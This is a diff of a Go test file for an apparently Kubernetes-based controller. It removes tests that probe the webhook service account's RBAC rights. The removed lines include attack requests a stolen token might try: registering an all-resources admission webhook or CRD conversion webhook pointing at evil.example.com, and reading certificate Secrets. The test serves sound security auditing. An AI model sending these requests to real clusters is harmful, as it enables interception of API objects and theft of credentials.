@@ -33,9 +33,7 @@ import (
 	"testing"
 
 	corev1 "k8s.io/api/core/v1"
-	rbacv1 "k8s.io/api/rbac/v1"
 	"k8s.io/apimachinery/pkg/util/sets"
-	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"
 	"k8s.io/client-go/util/cert"
 )
 
@@ -306,92 +304,6 @@ func TestWebhooksForAllSets(t *testing.T) {
 	}
 }
 
-// updateCRD is the right that the webhooks use while the CRD names a conversion webhook.
-const updateCRD = "update apiextensions.k8s.io/customresourcedefinitions"
-
-// missWebhookRights runs the webhooks for updateCRD, or at the same time for each other of their rights, as
-// TestEveryRightIsMissed runs the controllers.
-func missWebhookRights(t *testing.T, ofCRD bool) {
-	rules, missed := variantRules(t, "with-webhook")[webhookAccount], 0
-	for i, rule := range rules {
-		if (ruleRight(rule) == updateCRD) != ofCRD {
-			continue
-		}
-		missed++
-		t.Run("webhooks: "+ruleRight(rule), func(t *testing.T) {
-			if !ofCRD {
-				t.Parallel()
-			}
-			missWebhookRight(t, rules, i)
-		})
-	}
-	if missed == 0 {
-		t.Fatal("the service account of the webhooks has no such right")
-	}
-}
-
-// missingRight is the test of updateCRD, while the CRD names the webhook.
-func (w *webhookEnv) missingRight(t *testing.T) {
-	createAccountsNamespace(t)
-	missWebhookRights(t, true)
-}
-
-// missWebhookRight runs the webhooks without the right of rule i, and waits until the API server
-// refuses it. The Secret and the configurations have other names than those of the manifests,
-// which other processes write.
-func missWebhookRight(t *testing.T, rules []rbacv1.PolicyRule, i int) {
-	t.Helper()
-	e, missing := newEnv(t), ruleRight(rules[i])
-	own := unique("webhook")
-	var granted []rbacv1.PolicyRule
-	for _, rule := range slices.Concat(rules[:i], rules[i+1:]) {
-		if slices.Equal(rule.ResourceNames, []string{webhookAccount}) {
-			rule.ResourceNames = []string{own}
-		}
-		granted = append(granted, rule)
-	}
-	user, token := e.newAccount(granted)
-	text, err := os.ReadFile(filepath.Join(shared.root, "artifacts/deploy/webhook/configurations.yaml"))
-	e.must(err)
-	// The API server calls them for no other test's Foos.
-	configurations := strings.NewReplacer(
-		"\n  name: "+webhookAccount+"\nwebhooks:", "\n  name: "+own+"\nwebhooks:",
-		"operator: NotIn", "operator: In", "values: [kube-system, "+systemNamespace+"]", "values: ["+e.namespace+"]").Replace(string(text))
-	file := filepath.Join(e.TempDir(), "configurations.yaml")
-	e.must(os.WriteFile(file, []byte(configurations), 0o600))
-	sh(t, "kubectl apply -f "+file)
-	shOnCleanup(t, "kubectl delete -f "+file)
-	if missing != "create secrets" {
-		// The program renews a certificate that it cannot read.
-		e.kubectl("create secret generic " + own + " --from-literal=tls.key=x")
-	}
-	// Streaming lists do not take the right to list.
-	e.controller = start(t, t.TempDir(), fmt.Sprintf("env KUBE_FEATURE_WatchListClient=false sample-controller -kubeconfig=%s --webhooks-only --webhook-bind-address=127.0.0.1:0"+
-		" --leader-elect-resource-namespace=%s --webhook-secret=%s --webhook-configuration=%[3]s --metrics-bind-address=127.0.0.1:0",
-		kubeconfigOf(t, &clientcmdapi.AuthInfo{Token: token}), e.namespace, own))
-	e.controller.awaitServing("metrics")
-	e.eventually("the API server refuses to "+missing, func(context.Context) error { return e.refused(user, token, missing) })
-}
-
-// webhookAttempts take the rights to keep the certificate of the webhooks.
-func webhookAttempts() []attempt {
-	const evil = `{"clientConfig":{"url":"https://evil.example.com/","service":null}`
-	const conversion = `{"spec":{"conversion":{"strategy":"Webhook","webhook":` + evil + `,"conversionReviewVersions":["v1"]}}}}`
-	const crds, secrets = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions/", "/api/v1/namespaces/HOME/secrets"
-	return []attempt{
-		{"register a server of their own as an admission webhook for all resources",
-			"PUT /apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/" + webhookAccount,
-			`{"webhooks":[` + evil + `,"name":"a.example.com","sideEffects":"None","admissionReviewVersions":["v1"],` +
-				`"rules":[{"operations":["*"],"apiGroups":["*"],"apiVersions":["*"],"resources":["*"]}]}]}`},
-		{"change the CRD of Foos", "PUT " + crds + "foos.samplecontroller.k8s.io", conversion},
-		{"change another CRD", "PUT " + crds + "memcacheds.cache.example.com", conversion}, // +drop:memcached
-		{"read the Secret with the certificate of the webhooks", "GET " + secrets + "?fieldSelector=metadata.name=" + webhookAccount, ""},
-		{"create a Secret in the controller's namespace", "POST " + secrets, "{metadata: {name: evil}}"},
-		{"read all Foos and Deployments", "GET /apis/samplecontroller.k8s.io/v1alpha1/foos /apis/apps/v1/deployments", ""},
-		{"create, change or delete a Deployment", "DELETE " + deploymentsPath + "/x", ""},
-	}
-}
-
 // stolenToken tries what an attacker with the token of the webhooks' service account can do, where the
 // program keeps the certificate and where cert-manager does. The table of docs/security.md is its
 // result.
@@ -406,7 +318,7 @@ func (w *webhookEnv) stolenToken(t *testing.T) {
 	shOnCleanup(t, "kubectl delete clusterrolebinding "+binding)
 	sh(t, fmt.Sprintf("kubectl create clusterrolebinding %s --clusterrole=%s-lookups --serviceaccount=%s:%[2]s", binding, webhookAccount, e.namespace))
 	certManager := newAttacker(e, systemNamespace, e.namespace, webhookAccount)
-	for _, a := range slices.Concat(webhookAttempts(), otherAttempts()) {
-		mustDocument(t, a.what, own.succeeds(a), certManager.succeeds(a))
+	for _, a := range readAttempts(t, "webhook", "others") {
+		mustDocument(t, a.What, own.succeeds(a), certManager.succeeds(a))
 	}
 }
